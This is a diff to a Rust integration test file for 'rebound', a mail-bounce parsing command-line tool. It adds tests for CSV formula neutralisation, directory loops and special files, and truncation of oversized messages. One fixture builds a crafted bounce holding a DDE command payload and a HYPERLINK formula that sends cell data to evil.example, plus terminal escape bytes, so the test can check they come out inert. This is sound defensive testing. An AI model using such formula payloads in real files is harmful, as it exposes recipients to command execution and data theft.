@@ -1,7 +1,7 @@
 //! The `rebound` command as a user runs it: formats, inputs of every kind, errors that
 //! name the input, and exit codes.
 
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 use std::process::{Command, Output};
 
 fn rebound(args: &[&str]) -> Output {
@@ -71,7 +71,11 @@ fn parse_reads_directories_mbox_and_stdin() {
         "jsonl",
         dir.to_str().expect("utf-8 path"),
     ]);
-    assert!(out.status.success());
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let text = String::from_utf8_lossy(&out.stdout);
     assert_eq!(text.lines().count(), 2, "{text}");
     assert!(text.contains("box.mbox#1") && text.contains("box.mbox#2"));
@@ -91,6 +95,11 @@ fn parse_reads_directories_mbox_and_stdin() {
         .write_all(&a)
         .expect("write stdin");
     let out = child.wait_with_output().expect("wait");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let csv = String::from_utf8_lossy(&out.stdout);
     assert!(csv.starts_with("file,recipient,action,status"), "{csv}");
     assert!(csv.contains("gone@remote.example") && csv.contains("stuffed@remote.example"));
@@ -135,10 +144,25 @@ fn eval_prints_figures_and_enforces_floors() {
         r#"{"file": "a.eml", "bounces": [{"recipient": "gone@remote.example", "status": "5.1.1", "replycode": "550", "reason": "mailboxfull", "hard": false}]}"#,
     )
     .expect("write");
-    let out = rebound(&["eval", dir.to_str().expect("path"), "--min-full", "90"]);
+    let before = std::fs::read(dir.join("expected.jsonl")).expect("read");
+    let out = rebound(&[
+        "eval",
+        dir.to_str().expect("path"),
+        "--min-full",
+        "90",
+        "--json",
+    ]);
     assert_eq!(out.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&out.stderr).contains("below the floor"));
-    assert!(Path::new(&dir).join("expected.jsonl").exists());
+    // The floor failed because of the one wrong expectation, which eval counted ...
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    assert_eq!(v["total"]["files"], 1, "{v}");
+    assert_eq!(v["percent"]["full"], 0.0, "{v}");
+    // ... and left the expectations as they were (no re-blessing without being asked).
+    assert_eq!(
+        std::fs::read(dir.join("expected.jsonl")).expect("read"),
+        before
+    );
 }
 
 #[test]
@@ -153,4 +177,205 @@ fn eval_names_a_broken_expectations_line() {
     assert_eq!(out.status.code(), Some(1));
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("expected.jsonl:1"), "{err}");
+}
+
+/// Issue 11: a crafted bounce whose diagnostic is a spreadsheet formula with terminal
+/// control bytes comes out of `parse --format csv` as inert text.
+#[test]
+fn parse_csv_neutralises_formulas_and_control_bytes() {
+    let dir = temp("formula");
+    let msg = "From: MAILER-DAEMON@evil.example\nTo: list@example.org\nSubject: Undelivered\n\
+MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"b\"\n\n\
+--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; =cmd|' /C calc'!A0\n\n\
+Final-Recipient: rfc822; ann@remote.example\nAction: failed\nStatus: 5.1.1\n\
+Diagnostic-Code: =HYPERLINK(\"http://evil.example/?\"&A1,\"5.1.1 user unknown\")\x1b[2J\x07\n\n--b--\n";
+    std::fs::write(dir.join("evil.eml"), msg).expect("write");
+    let out = rebound(&[
+        "parse",
+        "--format",
+        "csv",
+        dir.join("evil.eml").to_str().expect("path"),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        !out.stdout.iter().any(|&b| b == 0x1b || b == 0x07),
+        "control bytes in the CSV"
+    );
+    let mut r = csv::Reader::from_reader(&out.stdout[..]);
+    let header = r.headers().expect("header").clone();
+    let rows: Vec<csv::StringRecord> = r.records().map(|r| r.expect("row")).collect();
+    assert_eq!(rows.len(), 1, "{}", String::from_utf8_lossy(&out.stdout));
+    let cell = |name: &str| {
+        let i = header.iter().position(|h| h == name).expect(name);
+        rows[0][i].to_string()
+    };
+    assert_eq!(cell("recipient"), "ann@remote.example");
+    let diag = cell("diagnostic_code");
+    assert!(diag.starts_with("'=HYPERLINK("), "{diag}");
+    assert!(
+        cell("reporting_mta").starts_with("'="),
+        "{}",
+        cell("reporting_mta")
+    );
+    for (i, value) in rows[0].iter().enumerate() {
+        let first = value.trim_start().chars().next();
+        assert!(
+            !matches!(first, Some('=' | '+' | '-' | '@')),
+            "column {} is a formula: {value}",
+            &header[i]
+        );
+    }
+}
+
+/// Issue 11: symlinks to `.`, a loop `sub/x -> ..`, a FIFO and a link to `/dev/zero` in
+/// the folder: each real directory is read once, the special files are skipped with a
+/// message, and nothing blocks.
+#[test]
+fn parse_walks_each_directory_once_and_skips_special_files() {
+    let dir = temp("loops");
+    std::fs::create_dir_all(dir.join("sub")).expect("mkdir");
+    std::fs::copy(fixture("04-qmail-two.eml"), dir.join("a.eml")).expect("copy");
+    std::fs::copy(fixture("03-dsn-blocklist.eml"), dir.join("sub/b.eml")).expect("copy");
+    std::os::unix::fs::symlink(".", dir.join("l1")).expect("symlink");
+    std::os::unix::fs::symlink(".", dir.join("l2")).expect("symlink");
+    std::os::unix::fs::symlink("..", dir.join("sub/x")).expect("symlink");
+    std::os::unix::fs::symlink("/dev/zero", dir.join("zero")).expect("symlink");
+    let fifo = dir.join("pipe");
+    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
+    assert!(made.success());
+    let mut child = Command::new(env!("CARGO_BIN_EXE_rebound"))
+        .args(["parse", "--format", "jsonl", dir.to_str().expect("path")])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("spawn");
+    let start = std::time::Instant::now();
+    while child.try_wait().expect("wait").is_none() {
+        if start.elapsed() > std::time::Duration::from_secs(60) {
+            let _ = child.kill();
+            panic!("parse did not finish in 60 s (blocked on the FIFO or looping)");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let out = child.wait_with_output().expect("output");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    // skipped entries of a walk are reported, not failures
+    assert!(out.status.success(), "{stderr}");
+    let files: Vec<String> = stdout
+        .lines()
+        .map(|l| {
+            let v: serde_json::Value = serde_json::from_str(l).expect("json line");
+            v["file"].as_str().expect("file").to_string()
+        })
+        .collect();
+    assert_eq!(files.len(), 2, "each message once: {files:?}");
+    assert!(
+        files[0].ends_with("/a.eml") && files[1].ends_with("/sub/b.eml"),
+        "{files:?}"
+    );
+    assert!(
+        stderr.contains("pipe': skipped, not a regular file (a FIFO)"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("zero': skipped, not a regular file (a character device)"),
+        "{stderr}"
+    );
+
+    // Named on the command line, a device is an error, read not at all.
+    let out = rebound(&["parse", "--format", "jsonl", "/dev/zero"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("'/dev/zero': not a regular file"));
+}
+
+/// Issue 11: a DSN over the parse limit (100,000 recipients, about 6 MB) is decoded as far
+/// as the limit and says so, on stderr and in every output format.
+#[test]
+fn parse_marks_a_message_over_the_limit_as_truncated() {
+    let dir = temp("truncated");
+    let mut msg = String::from(
+        "From: MAILER-DAEMON@mx.example\nSubject: Undelivered\nMIME-Version: 1.0\n\
+Content-Type: multipart/report; report-type=delivery-status; boundary=\"B\"\n\n\
+--B\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example\n\n",
+    );
+    for i in 0..100_000 {
+        msg.push_str(&format!(
+            "Final-Recipient: rfc822; u{i}@example.com\nAction: failed\nStatus: 5.1.1\n\n"
+        ));
+    }
+    msg.push_str("--B--\n");
+    assert!(msg.len() > rebound::decode::MAX_PARSE);
+    let big = dir.join("big.eml");
+    std::fs::write(&big, &msg).expect("write");
+    std::fs::copy(fixture("04-qmail-two.eml"), dir.join("small.eml")).expect("copy");
+    let small = dir.join("small.eml");
+    let args = |format: &'static str| {
+        rebound(&[
+            "parse",
+            "--format",
+            format,
+            big.to_str().expect("path"),
+            small.to_str().expect("path"),
+        ])
+    };
+    let out = args("jsonl");
+    assert!(out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("big.eml': longer than the 4 MiB parse limit"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("small.eml"), "{stderr}");
+    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("json"))
+        .collect();
+    assert_eq!(lines.len(), 2);
+    assert_eq!(lines[0]["truncated"], true);
+    let n = lines[0]["bounces"].as_array().expect("bounces").len();
+    assert!(n > 1000 && n < 100_000, "{n} facts from the cut message");
+    assert!(lines[1].get("truncated").is_none(), "{}", lines[1]);
+
+    let out = args("csv");
+    assert!(out.status.success());
+    let mut r = csv::Reader::from_reader(&out.stdout[..]);
+    let col = r
+        .headers()
+        .expect("header")
+        .iter()
+        .position(|h| h == "truncated")
+        .expect("truncated column");
+    let marks: Vec<(String, String)> = r
+        .records()
+        .map(|r| {
+            let r = r.expect("row");
+            (r[0].to_string(), r[col].to_string())
+        })
+        .collect();
+    assert_eq!(
+        marks.len(),
+        n + 2,
+        "the cut message's facts and small.eml's two"
+    );
+    assert!(marks
+        .iter()
+        .all(|(f, t)| (f.ends_with("big.eml") && t == "true")
+            || (f.ends_with("small.eml") && t == "false")));
+
+    let out = args("table");
+    assert!(out.status.success());
+    let table = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        table
+            .lines()
+            .nth(1)
+            .is_some_and(|l| l.starts_with("big.eml (truncated)")),
+        "{}",
+        table.lines().nth(1).unwrap_or("")
+    );
 }
